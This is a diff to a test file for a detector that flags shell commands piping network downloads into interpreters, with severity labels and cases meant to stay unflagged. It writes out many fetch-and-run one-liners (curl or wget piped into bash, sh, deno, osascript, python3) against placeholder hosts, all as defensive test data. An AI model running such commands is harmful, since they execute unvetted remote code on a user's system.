@@ -40,6 +40,48 @@ describe("code that comes from the network and runs", () => {
       ["2 high pipes a download into bash"],
     ],
     [
+      "with arguments",
+      block(
+        "curl -s https://x.example/a | bash -s -- --yes",
+        "wget -qO- https://y.example/b | sh -",
+      ),
+      [
+        "2 high pipes a download from x.example into bash",
+        "3 high pipes a download from y.example into sh",
+      ],
+    ],
+    [
+      "into a program that takes it from standard input",
+      block(
+        "curl -s https://x.example/a | deno run -A -",
+        "curl -s https://x.example/a | bash -o pipefail",
+        "curl -s https://x.example/a | source /dev/stdin",
+        "curl -s https://x.example/a | osascript -l JavaScript",
+        "curl -s https://x.example/a | python3 - first",
+      ),
+      ["deno", "bash", "source", "osascript", "python3"].map(
+        (name, index) => `${index + 2} high pipes a download from x.example into ${name}`,
+      ),
+    ],
+    [
+      "without a scheme",
+      block("curl -fsSL x.example/a | sh", "wget -qO - y.example | bash"),
+      [
+        "2 high pipes a download from x.example into sh",
+        "3 high pipes a download from y.example into bash",
+      ],
+    ],
+    [
+      "without a scheme, from where a known vendor keeps its installer",
+      block("curl -fsSL get.docker.com | sh"),
+      ["2 medium pipes a download from get.docker.com into sh"],
+    ],
+    [
+      "without a scheme, next to the name of a file",
+      block("curl -H accept.all -o run.sh $URL | sh"),
+      ["2 high pipes a download into sh"],
+    ],
+    [
       "with its address in a variable that another block sets",
       `${block("U=https://x.example/a")}\n\n${block('curl -s "$U" | bash')}`,
       ["6 high pipes a download from x.example into bash"],
@@ -138,6 +180,16 @@ describe("silent:", () => {
   test.each([
     ["data for a module", block("curl -s https://x.example/a | python3 -m json.tool")],
     ["data for code", block("curl -s https://x.example/a | python3 -c 'import sys'")],
+    ["data for a task of Bun", block("curl -s https://x.example/a | bun run format")],
+    ["data for a program of Deno", block("curl -s https://x.example/a | deno run tools/format")],
+    ["data for a script without an ending", block("curl -s https://x.example/a | bash bin/count")],
+    ["a request that eval makes", block('CODE=$(cat a | eval curl -s "$URL" | eval cat)')],
+    [
+      "a request of eval that is told to be silent",
+      block('A=$(eval curl -s -d "$(curl -s "$U")" "$V")'),
+    ],
+    ["data that a script is told to read", block("curl -s https://x.example/a | node bin/show -")],
+    ["data for a decoder's script", block("base64 -d a.txt | node bin/show")],
     ["data for a program", block("curl -s https://x.example/a | node scripts/chart.mjs --dark")],
     [
       "data for a program in a sentence",
